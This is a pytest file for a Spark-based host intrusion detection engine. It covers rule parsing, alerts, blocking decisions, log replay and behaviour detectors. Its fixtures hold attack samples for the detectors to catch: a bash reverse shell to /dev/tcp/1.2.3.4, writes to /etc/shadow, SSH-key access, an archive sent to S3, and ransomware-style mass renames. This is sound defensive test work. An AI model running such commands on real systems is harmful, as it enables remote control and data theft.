"""Engine, alerts, decisions, metrics, rule files, logs, normalisation, detectors and the command line."""

from __future__ import annotations

import json
import random
import time
from collections import Counter
from dataclasses import replace

import pytest
from pyspark.sql import functions as F

from emberline import cli, packs
from emberline.engine import Engine, RuleWatch
from emberline.operators import alerts, behaviors, metrics, patterns
from emberline.operators import decisions as D
from emberline.plans import analyzer, ir
from emberline.plans.errors import InvalidRule, RuleError
from emberline.plans.parser import parse
from emberline.runtimes import Compilers, RuleCompiler, Runtime, Runtimes, described
from emberline.schema import Schema, host_schema
from emberline.sources import generate, normalize, replay, rules

S = 1_000_000_000
HOST = host_schema().struct()


def host(spark, rows):
    """rows: (type, seconds, pid, fields by path)."""
    full = []
    for i, (kind, at, pid, more) in enumerate(rows):
        rec = {"event_id": i + 1, "event_type": kind, "ts_mono_ns": int(at * S), "ts_wall_ns": None, "entity_key": str(pid), "source_id": None, "process": {"pid": pid}}
        for path, v in more.items():
            a, b = path.split(".")
            rec.setdefault(a, {})[b] = v
        full.append(rec)
    return spark.createDataFrame(full, HOST)


def story(spark):
    return host(
        spark,
        [
            ("process_exec", 0, 7, {"process.executable": "/bin/bash", "process.name": "bash"}),
            ("file_write", 1, 7, {"file.path": "/etc/shadow"}),
            ("process_exec", 2, 8, {"process.executable": "/bin/ls"}),
            ("network_connect", 3, 7, {"network.dest_port": 4444}),
        ],
    )


def engine(mode="detect"):
    e = Engine(host_schema(), mode=mode)
    e.add('process_exec where process.executable == "/bin/bash"', "shell", severity="high", blockable=True)
    e.add('3003 where startsWith(file.path, "/etc/")', "etc", severity="medium")
    e.add("sequence by process.pid [exec] [file_write] [connect where network.dest_port == 4444] with maxspan=5s", "story", severity="critical")
    return e


def test_alerts_of_all_rules(spark):
    got = {(r["rule_id"], r["ts"] // S, r["entity_key"], tuple(r["event_ids"]), r["severity"]) for r in engine().alerts(story(spark)).collect()}
    assert got == {("shell", 0, "7", (1,), "high"), ("etc", 1, "7", (2,), "medium"), ("story", 3, "7", (1, 2, 4), "critical")}


@pytest.mark.parametrize(("mode", "outcomes"), [("detect", {"noted"}), ("offline", {"simulated"}), ("inline", {"enforce", "noted", "rejected"})])
def test_decisions(spark, mode, outcomes):
    rows = {r["rule_id"]: (r["action"], r["outcome"]) for r in engine(mode).decisions(story(spark)).collect()}
    assert {o for _, o in rows.values()} == outcomes
    assert {k: a for k, (a, _) in rows.items()} == {"shell": "block", "etc": "alert", "story": "kill"}
    if mode == "inline":
        assert rows["shell"][1] == "enforce" and rows["story"][1] == "rejected"


def test_rules_come_and_go():
    e = engine()
    with pytest.raises(ValueError):
        e.add("exec", "shell")
    with pytest.raises(RuleError):
        e.add("nothing_like_it", "x")
    assert e.remove("shell") and not e.remove("shell") and len(e.event_rules) == 1 and len(e.sequences) == 1
    assert {a.rule_id for a in e.explain()} == {"etc", "story"}
    with pytest.raises(ValueError):
        Engine(host_schema(), mode="sideways")


def test_metrics_and_their_texts(spark):
    rows = [r.asDict() for r in engine().metrics(story(spark)).collect()]
    assert {r["rule_id"]: r["n_matches"] for r in rows} == {"shell": 1, "etc": 1, "story": 1}
    text = metrics.to_prometheus([{"rule_id": 'a"b', "n_matches": 2}])
    assert 'emberline_n_matches{rule_id="a\\"b"} 2' in text and json.loads(metrics.to_json(rows))
    d = metrics.distribution(spark.range(1, 101).select(F.col("id").alias("v"), F.lit("x").alias("k")), "v", "k").first()
    assert (d["n"], d["total"], d["peak"], d["p50"], d["p99"]) == (100, 5050, 100, 50, 99)


@pytest.mark.parametrize("keys", [[], ["k"]])
def test_exact_percentiles(spark, keys):
    """Ties, nulls, a hot value, a group of one, and a null key."""
    r = random.Random(3)
    rows = [(r.choice(["a", "b", None]), float(r.choice([5, 5, 5, r.randrange(1000)]))) for _ in range(900)] + [("one", 3.0), ("none", None), ("a", None)]
    got = {tuple(x[k] for k in keys): (x["p50"], x["p90"], x["p99"]) for x in metrics.exact_percentiles(spark.createDataFrame(rows, "k string, v double").repartition(4), "v", *keys, slices=8).collect()}
    want = {}
    for key in {(k,) if keys else () for k, _ in rows}:
        own = sorted(v for k, v in rows if v is not None and (not keys or k == key[0]))
        if own:
            want[key] = tuple(own[len(own) * p // 100] for p in (50, 90, 99))
    assert got == want


def test_the_prefilter_keeps_what_matters(spark):
    assert sorted(r["event_id"] for r in engine().prefilter(story(spark)).collect()) == [1, 2, 3, 4]
    e = Engine(host_schema())
    e.add('file_write where contains(file.path, "shadow")', "x")
    assert [r["event_id"] for r in e.prefilter(story(spark)).collect()] == [2]


@pytest.mark.parametrize(("capabilities", "kill", "block", "quarantine"), [((), False, False, False), (("block",), True, True, True), (("kill",), True, False, False), (("quarantine",), False, False, True)])
def test_capabilities(spark, capabilities, kill, block, quarantine):
    have = F.array(*map(F.lit, capabilities)).cast("array<string>")
    row = spark.range(1).select(*(D.capable(F.lit(a), have).alias(a) for a in ("kill", "block", "quarantine", "alert"))).first()
    assert tuple(row) == (kill, block, quarantine, True)


def test_severities_and_actions(spark):
    df = spark.createDataFrame([("Critical",), ("high",), ("medium",), ("low",), ("informational",), ("odd",), (None,)], "s string")
    got = [(r[0], r[1]) for r in df.select(D.severity_rank(F.col("s")), D.action_of(F.col("s"))).collect()]
    assert got == [(4, "kill"), (3, "block"), (2, "alert"), (1, "alert"), (0, "allow"), (None, "allow"), (None, "allow")]


def test_composed_decisions(spark):
    """Worst rule, then the limit of a second, then the cache; the cached decision is given again."""
    e = Engine(host_schema(), mode="inline")
    e.add("process_exec", "any", severity="low")
    e.add("process_exec where process.uid == 0", "root", severity="high", blockable=True)
    rows = [("process_exec", 0, 7, {"process.uid": 0}), ("process_exec", 30, 7, {"process.uid": 5}), ("process_exec", 61, 7, {"process.uid": 5}), ("process_exec", 61.5, 8, {}), ("file_write", 62, 8, {})]
    got = {r["event_id"]: (r["rule_id"], r["action"], r["n_alerts"], r["cached"], r["outcome"]) for r in e.decide(host(spark, rows), per_second=1).collect()}
    assert got == {1: ("root", "block", 2, False, "enforce"), 2: ("root", "block", 1, True, "enforce"), 3: ("unknown", "alert", 1, False, "noted")}


def test_a_script_that_raises_costs_its_event_only(spark):
    def odd(pdf):
        if (pdf["event_id"] == 2).any():
            raise RuntimeError("no")
        return pdf["event_id"] % 2 == 1

    e = Engine(host_schema())
    e.add_script("odd", odd, "high")
    with pytest.raises(ValueError):
        e.add_script("odd", odd)
    events = story(spark).coalesce(1)
    assert sorted((r["rule_id"], r["severity"], r["event_ids"][0]) for r in e.alerts(events).collect()) == [("odd", "high", 1), ("odd", "high", 3)]
    assert [(r["event_id"], r["error"]) for r in e.script_errors(events, "odd").collect()] == [(2, "RuntimeError: no")]
    assert e.decisions(events).count() == 2


def test_rules_are_watched(tmp_path):
    e = Engine(host_schema())
    (tmp_path / "a.eql").write_text("exec")
    watch = RuleWatch(e, tmp_path)
    assert watch.poll() and not watch.poll() and e.version == 1 and set(e.rules) == {"a"}
    (tmp_path / "b.eql").write_text("nothing_like_it")
    assert not watch.poll() and watch.failed and set(e.rules) == {"a"} and e.version == 1
    (tmp_path / "b.eql").write_text("file_write")
    told = []
    thread = watch.start(0.05, told.append)
    for _ in range(100):
        if told:
            break
        time.sleep(0.05)
    watch.stop()
    thread.join(5)
    assert told == [2] and set(e.rules) == {"a", "b"}


def test_compilers_and_runtimes(spark):
    c = Compilers()
    text, cond = {"id": "t", "query": "exec where process.pid > 5"}, {"id": "c", "event_type": "file_write", "condition": {"type": "field_contains", "field": "file.path", "value": "shadow"}}
    rule = c.compile(text)
    assert c.compile(dict(text)) is rule and c.compile({**text, "query": "exec"}) is not rule
    assert c.problems(cond, host_schema()) == [] and c.problems({"id": "x"}) and c.problems({"id": "x", "query": "a where"}) and c.problems({"id": "x", "query": "zzz"}, host_schema())
    with pytest.raises(ValueError):
        c.register(RuleCompiler("text", lambda r: True, lambda r: rule))
    c.register(RuleCompiler("other", lambda r: "kind" in r, lambda r: rule))
    assert c.compile({"id": "o", "kind": 1}) is rule
    c.forget("t")
    assert "t" not in c.made and "o" in c.made

    r = Runtimes(host_schema())
    r.load(c.compile(text))
    r.load(c.compile(cond))
    events = story(spark)
    for name in (None, "interpreter"):
        assert sorted(x["event_id"] for x in r.evaluate(events, "t", name).collect()) == [1, 3]
        assert [x["event_id"] for x in r.evaluate(events, "c", name).collect()] == [2]
    assert [d["name"] for d in described(r)] == ["native", "interpreter"]
    assert r.runtime_of(r.rules["t"]).name == "native" and r.unregister("native") and r.runtime_of(r.rules["t"]).name == "interpreter"
    with pytest.raises(InvalidRule):
        r.runtime_of(replace(r.rules["t"], captures=(ir.Capture("process.pid"),)))
    with pytest.raises(ValueError):
        r.register(Runtime("interpreter", 1, frozenset(), None))
    assert r.evaluate_once(events, 'file_write where regex("shad.w", file.path)').count() == 1
    assert r.unload("t") and not r.unload("t")


def test_packs(spark):
    s = packs.pack_schema()
    rows = [
        ("network_connect", 1, 5, {"process.entity_id": "p", "network.direction": "outbound", "network.dest_port": 4444}),
        ("process_exec", 3, 5, {"process.entity_id": "p", "process.executable": "/bin/sh"}),
        ("file_write", 4, 6, {"process.entity_id": "q", "file.path": "/home/a.docx"}),
        ("file_rename", 5, 6, {"process.entity_id": "q", "file.name": "a.docx.locked"}),
        ("process_exec", 6, 7, {"process.entity_id": "r", "process.executable": "tar", "process.args": ["-c", "all.sql"]}),
        ("network_send", 60, 7, {"process.entity_id": "r", "network.direction": "outbound", "network.dest_host": "x.s3.amazonaws.com"}),
        ("process_exec", 7, 8, {"process.entity_id": "s", "file.path": "/home/me/.ssh/id"}),
    ]
    events = packs.broad_types(host(spark, rows))
    e = Engine(s)
    for rule in packs.all_packs():
        e.add(rule)
    assert sorted((r["rule_id"], r["entity_key"], tuple(r["event_ids"])) for r in e.alerts(events).collect()) == [("credential_access", "8", (7,)), ("data_exfiltration", "r", (5, 6)), ("ransomware", "q", (3, 4)), ("reverse_shell", "p", (1, 2))]


def test_streamed_alerts(spark, tmp_path):
    """Event rules and sequences over one stream, to JSON and batch by batch."""
    story(spark).coalesce(1).write.json(f"{tmp_path}/in")
    stream = spark.readStream.schema(HOST).json(f"{tmp_path}/in").withColumn("time", F.timestamp_micros(F.expr("ts_mono_ns div 1000")))
    found = engine().stream(stream, F.col("time"), delay="1 second")
    alerts.stream_json(found, f"{tmp_path}/out", f"{tmp_path}/state").trigger(availableNow=True).start().awaitTermination()
    assert {r["rule_id"] for r in spark.read.json(f"{tmp_path}/out").collect()} == {"shell", "etc"}
    seen = []
    alerts.stream_each(found, f"{tmp_path}/state2", lambda df, n: seen.extend(r["rule_id"] for r in df.collect())).trigger(availableNow=True).start().awaitTermination()
    assert sorted(seen) == ["etc", "shell"]
    assert alerts.stream_console(found) is not None


# rule files


def write_rules(at):
    (at / "pack").mkdir()
    (at / "pack" / "rule.eql").write_text('process_exec where process.name == "x"')
    (at / "pack" / "manifest.json").write_text(json.dumps({"metadata": {"rule_id": "packed", "name": "Packed", "severity": "High", "tags": ["t"]}, "capabilities": {"requires_block": True}}))
    (at / "plain.eql").write_text("sequence by process.pid [exec] [file_write] with maxspan=1m")
    (at / "cond.json").write_text(json.dumps({"id": "cond", "event_type": "file_write", "condition": {"type": "and", "conditions": [{"type": "field_contains", "field": "file.path", "value": "/etc"}, {"type": "always"}]}, "captures": [{"field": "file.path", "alias": "path"}]}))
    (at / "bad.json").write_text("{")
    (at / "wrong.eql").write_text("a where = 3")
    (at / "same.json").write_text(json.dumps({"id": "cond", "eql": "exec"}))
    (at / "notes.txt").write_text("no rule")


def test_rule_files(tmp_path):
    write_rules(tmp_path)
    loaded = rules.load_all(tmp_path)
    by = {r.rule_id: r for r in loaded.rules}
    assert set(by) == {"packed", "plain", "cond"} and {p.rsplit("/", 1)[1] for p in loaded.failed} == {"bad.json", "wrong.eql", "same.json"}
    assert by["packed"].severity == "high" and by["packed"].blockable and by["packed"].tags == ("t",)
    assert by["cond"].captures == (ir.Capture("file.path", "path"),)
    e = Engine(host_schema())
    assert len(e.load(tmp_path)) == 3 and len(e.rules) == 3
    assert e.reload(tmp_path) and set(e.rules) == set(by)  # failures: the old rules stay
    assert {p.rsplit("/", 1)[1] for p in rules.load_all(tmp_path, most=1).failed} >= {"plain.eql"}


def test_command_line(spark, tmp_path, capsys):
    (tmp_path / "rules").mkdir()
    write_rules(tmp_path / "rules")
    assert cli.main(["validate", "--rules", str(tmp_path / "rules")]) == 1
    assert cli.main(["list", "--rules", str(tmp_path / "rules")]) == 0
    out = capsys.readouterr()
    assert "3 rules, 3 failed" in out.out and "packed\thigh\tevent\tPacked" in out.out
    story(spark).write.json(f"{tmp_path}/events")
    assert cli.main(["run", "--rules", str(tmp_path / "rules"), "--events", f"{tmp_path}/events", "--out", f"{tmp_path}/out"]) == 0
    assert Counter(r["rule_id"] for r in spark.read.json(f"{tmp_path}/out").collect()) == {"cond": 1, "plain": 1}


# logs


def test_a_log_comes_back(spark, tmp_path):
    events = story(spark)
    head = replay.write_log(events, f"{tmp_path}/log", rule_pack="p")
    assert head["event_count"] == 4 and (head["start_ts"], head["end_ts"]) == (0, 3 * S)
    back = replay.read_log(spark, f"{tmp_path}/log", HOST)
    assert replay.fingerprint(back) == replay.fingerprint(events)
    assert {r["rule_id"] for r in engine().alerts(back).collect()} == {"shell", "etc", "story"}


@pytest.mark.parametrize("first", ["", "no json", "[]", '{"magic": "XXXX"}', '{"magic": "EMBR", "version": 99}'])
def test_what_is_no_log(spark, tmp_path, first):
    (tmp_path / "log.json").write_text(first + "\n{}\n")
    with pytest.raises(replay.LogError):
        replay.read_log(spark, f"{tmp_path}/log.json", HOST)


def test_a_log_in_one_file_with_broken_lines(spark, tmp_path):
    (tmp_path / "log.json").write_text('{"magic": "EMBR", "version": 1}\n{"event_id": 1, "event_type": "a"}\n\nbroken\n{"event_id": 2}\n')
    assert sorted([r["event_id"] for r in replay.read_log(spark, f"{tmp_path}/log.json", HOST).collect()], key=str) == [1, 2, None]


def test_replay_is_in_order_and_deterministic(spark):
    df = generate.test_events(spark, 1000).withColumn("ts_mono_ns", F.pmod(F.xxhash64("event_id"), F.lit(100)))
    for size in (7, 10_000):
        rows = replay.replay_order(df.repartition(5), size).orderBy("replay_no").collect()
        assert [r["replay_no"] for r in rows] == list(range(1, 1001))
        assert [(r["ts_mono_ns"], r["event_id"]) for r in rows] == sorted((r["ts_mono_ns"], r["event_id"]) for r in rows)
    assert replay.replay_order(df.limit(0)).count() == 0
    assert replay.is_deterministic(lambda: generate.sequence_events(spark, 50))
    assert not replay.is_deterministic(lambda: spark.range(50).select(F.rand().alias("x")))


def test_raw_records(spark):
    raw = spark.createDataFrame(
        [(1, 5, 6, "e", 9, 1, 0, 0, "bash\0junk", "/bin/bash\0", "", 0, "", ""), (2, 7, 8, "e", 9, 1, 0, 0, "", "", "", 3, "", ""), (4, 9, 9, "e", 9, 1, 0, 0, "", "", "", 0, "/a\0", "/b"), (99, 1, 1, "e", 1, 1, 1, 1, "", "", "", 0, "", "")],
        "kind int, ts_mono_ns long, ts_wall_ns long, entity_key string, pid int, ppid int, uid int, gid int, comm string, exe string, cmdline string, exit_code int, path string, new_path string",
    )
    good, bad = normalize.normalize(raw)
    by = {r["event_type"]: r for r in good.collect()}
    assert bad.count() == 1 and set(by) == {"process_exec", "process_exit", "file_rename"}
    assert by["process_exec"]["process"]["name"] == "bash" and by["process_exec"]["process"]["command_line"] is None
    assert by["process_exit"]["process"]["exit_code"] == 3 and by["process_exit"]["process"]["name"] is None
    assert (by["file_rename"]["file"]["path"], by["file_rename"]["file"]["new_path"]) == ("/a", "/b")


def test_partitions_of_the_bus(spark):
    df = generate.test_events(spark, 200)
    for how in ("entity", "event_type", "combined", "hash"):
        rows = generate.placed(df, 4, how).collect()
        assert {r["bus_partition"] for r in rows} <= set(range(4))
    assert all(r["bus_partition"] == int(r["entity_key"]) % 4 for r in generate.placed(df, 4).collect())
    with pytest.raises(ValueError):
        generate.placed(df, 4, "luck")


# analysis and patterns


@pytest.mark.parametrize(
    ("text", "score", "strategy"),
    [("a", 0, "general"), ('a where x == "s"', 0, "filter"), ("sequence [a] [b]", 20, "fold"), ('a where regex("x", y)', 28, "prefilter_fold"), ("sequence [a] [b] until [c]", 45, "general"), ("sequence " + "[a] " * 20, 100, "general")],
)
def test_strategies(text, score, strategy):
    a = analyzer.analyze(parse(text))
    assert (a.score, a.strategy) == (score, strategy)


def test_hot_spots(spark):
    df = spark.createDataFrame([("hot", 10_000, 9_900, 1.0), ("rare", 100, 100, 0.01), ("cold", 10_000, 10, 1.0), ("slow", 10_000, 9_900, 1e6)], "rule_id string, evaluations long, matches long, minutes double")
    assert [r["rule_id"] for r in analyzer.hot_spots(df).collect()] == ["hot"]


def test_patterns(spark):
    e = parse('a where contains(x, "bc") and startsWith(x, "a") or endsWith(x, "d") and x == "abcd" or x in ("q", "abcd")').steps[0].where
    found = patterns.extract(e)
    assert [(p.text, p.kind) for p in found] == [("bc", "contains"), ("a", "starts_with"), ("d", "ends_with"), ("abcd", "equals"), ("q", "equals"), ("abcd", "equals")]
    df = spark.createDataFrame([("abcd",), ("xbc",), ("ABCD",), (None,), ("",)], "x string")
    rows = {(r["x"], r["pattern_id"], r["start_pos"], r["end_pos"]) for r in patterns.match_patterns(df, found).collect()}
    assert rows == {("abcd", 0, 1, 3), ("abcd", 1, 0, 1), ("abcd", 2, 3, 4), ("abcd", 3, 0, 4), ("abcd", 5, 0, 4), ("xbc", 0, 1, 3)}
    assert {(r["x"], r["pattern_id"], r["start_pos"], r["end_pos"]) for r in patterns.match_patterns(df, found, expressions=0).collect()} == rows
    assert patterns.match_patterns(df, found, ignore_case=True).where("x = 'ABCD'").count() == 5
    assert patterns.match_patterns(df, found, ignore_case=True, expressions=0).where("x = 'ABCD'").count() == 5
    for bad in ([], [patterns.Pattern(0, "", "equals", "x")], [patterns.Pattern(0, "a" * 5000, "equals", "x")], [patterns.Pattern(0, "a", "near", "x")]):
        with pytest.raises(InvalidRule):
            patterns.check(bad)


# detectors


def fired(df):
    return sorted((r["pid"], r["ts"] // S, r["reason"]) for r in df.collect())


def test_ransomware(spark):
    rows = [("file_rename", i * 0.1, 5, {"file.path": f"/h/{i}.docx", "file.new_path": f"/h/{i}.docx.locked"}) for i in range(12)] + [("file_rename", i * 10, 6, {"file.path": "/h/a.docx", "file.new_path": "/h/a.locked"}) for i in range(12)]
    assert fired(behaviors.ransomware(host(spark, rows))) == [(5, 0, "mass_rename"), (5, 1, "mass_rename"), (5, 1, "mass_rename")]


def test_reverse_shell(spark):
    rows = [("process_exec", 1, 5, {"process.executable": "/bin/bash", "process.command_line": "bash -i >& /dev/tcp/1.2.3.4/1"}), ("network_connect", 2, 6, {}), ("process_exec", 3, 7, {"process.executable": "/bin/sh", "process.ppid": 6}), ("process_exec", 30, 8, {"process.executable": "/bin/sh", "process.ppid": 6}), ("file_write", 4, 9, {"file.path": "/dev/tcp/1/2"}), ("process_exec", 5, 10, {"process.executable": "/bin/ls"})]
    assert fired(behaviors.reverse_shell(host(spark, rows))) == [(5, 1, "command_line"), (7, 3, "shell_of_network_parent"), (9, 4, "dev_tcp_write")]


def test_all_detectors_are_quiet_on_quiet_hosts(spark):
    rows = [("process_exec", i, 5, {"process.executable": "/usr/bin/ls"}) for i in range(5)] + [("file_write", 9, 5, {"file.path": "/tmp/x"}), ("network_connect", 10, 5, {"network.dest_port": 443})]
    assert behaviors.detect_all(host(spark, rows)).count() == 0
    loud = host(spark, [("file_write", 1, 5, {"file.path": "/etc/shadow"}), ("network_connect", 2, 6, {"network.dest_port": 23})])
    assert {(r["rule_id"], r["reason"]) for r in behaviors.detect_all(loud).collect()} == {("privilege_escalation", "shadow_access"), ("credential_access", "system_shadow"), ("lateral_movement", "telnet")}


def test_schemas():
    s = Schema().add_type("a").add_field("x.y", "i64").add_field("x.z", "string", is_array=True)
    assert s.struct()["x"].dataType.simpleString() == "struct<y:bigint,z:array<string>>"
    for again in (lambda: s.add_type("a"), lambda: s.add_field("x.y", "i64"), lambda: s.add_field("q", "complex")):
        with pytest.raises(ValueError):
            again()
